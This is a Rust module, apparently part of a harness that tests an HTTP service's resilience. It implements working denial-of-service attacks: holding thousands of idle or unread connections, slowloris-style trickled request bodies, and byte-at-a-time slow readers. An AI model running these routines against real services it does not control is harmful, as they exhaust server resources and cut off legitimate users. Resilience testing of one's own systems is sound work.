//! Connections that are held, and given nothing or taken nothing from.

use std::collections::VecDeque;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use super::exchange::{Exchange, get, with_headers};
use super::{Run, Target, bodies};

/// How long a drop of a drip takes.
const DROP: Duration = Duration::from_millis(250);

/// One executor opens two thousand live feeds and reads none of them.
pub(super) fn unread_feeds(target: &Target, run: &Run) {
    let request = with_headers("GET /v1/events", &target.executor, "Accept: text/event-stream\r\n");
    let mut held = Vec::new();
    for _ in 0..run.of(200, 2_000) {
        let Ok(mut exchange) = Exchange::open(target.address) else { break };
        if run.is_late() || exchange.send(&request).is_err() {
            break;
        }
        run.note(status_line(exchange.stream()));
        held.push(exchange);
    }
    run.is_prepared();
    wait(run);
    drop(held);
}

/// The status of an answer that stays where it is.
fn status_line(stream: &TcpStream) -> String {
    let mut line = [0; 12];
    let length = stream.peek(&mut line).unwrap_or(0);
    String::from_utf8_lossy(line.get(9..length).unwrap_or_default()).into_owned()
}

/// Until the attack is over. Nothing is done meanwhile: that is the attack.
fn wait(run: &Run) {
    thread::sleep(run.left());
}

/// As many connections as there are, each anonymous: a health check, and then nothing.
pub(super) fn hoarded(target: &Target, run: &Run) {
    let request = get("/healthz", "");
    let mut held = Vec::new();
    for _ in 0..run.of(300, 4_000) {
        if run.is_late() {
            break;
        }
        let Ok(mut exchange) = Exchange::open(target.address) else { continue };
        let verdict = exchange.ask(&request).map_or_else(|_| "closed".to_owned(), |answer| answer.verdict());
        run.note(verdict);
        held.push(exchange);
    }
    run.is_prepared();
    wait(run);
    drop(held);
}

/// Hundreds of connections a second that never say a word.
pub(super) fn silent(target: &Target, run: &Run) {
    let mut held = VecDeque::new();
    while !run.is_over() {
        let Ok(stream) = TcpStream::connect_timeout(&target.address, DROP) else { continue };
        run.note("connected".into());
        held.push_back(stream);
        if held.len() > run.of(300, 4_000) {
            held.pop_front();
        }
        thread::sleep(Duration::from_micros(500));
    }
}

/// Very many bodies under way at once, a byte at a time: large ones, and small ones that seem not worth counting.
pub(super) fn slow_bodies(target: &Target, run: &Run) {
    let begun = |length: usize, sent: usize| {
        let headers = format!("Content-Type: application/json\r\nContent-Length: {length}\r\n");
        [with_headers("POST /v1/items", &target.initiator, &headers), vec![b' '; sent]].concat()
    };
    let mut held = Vec::new();
    for number in 0..run.of(200, 2_000) {
        let Ok(mut exchange) = Exchange::open(target.address) else { break };
        let request = if number % 2 == 0 { begun(100_000, 64_000) } else { begun(8_000, 7_900) };
        if run.is_late() || exchange.send(&request).is_err() {
            break;
        }
        let _ = exchange.stream().set_nonblocking(true);
        held.push(exchange);
    }
    run.is_prepared();
    while !run.is_over() {
        held.retain(|exchange| {
            // An answer before the end is a refusal.
            if exchange.stream().peek(&mut [0]).is_ok() {
                run.note(status_line(exchange.stream()));
                return false;
            }
            exchange.stream().write(b" ").is_ok()
        });
        thread::sleep(DROP.min(run.left()));
    }
}

/// Large lists, asked for on many connections and read a byte at a time.
pub(super) fn slow_readers(target: &Target, run: &Run) {
    bodies::write_drafts(target, run, run.of(30, 200));
    run.is_prepared();
    let request = get("/v1/items?limit=200", &target.initiator);
    let mut held = Vec::new();
    for _ in 0..run.of(60, 1_000) {
        let Ok(mut exchange) = Exchange::open(target.address) else { break };
        if run.is_late() || exchange.send(&request).is_err() {
            break;
        }
        let _ = exchange.stream().set_nonblocking(true);
        held.push((exchange, false));
    }
    run.is_prepared();
    while !run.is_over() {
        for (exchange, is_answered) in &mut held {
            if !*is_answered && exchange.stream().peek(&mut [0; 12]).is_ok_and(|length| length == 12) {
                run.note(status_line(exchange.stream()));
                *is_answered = true;
            }
            let _ = exchange.stream().read(&mut [0]);
        }
        thread::sleep(DROP.min(run.left()));
    }
}
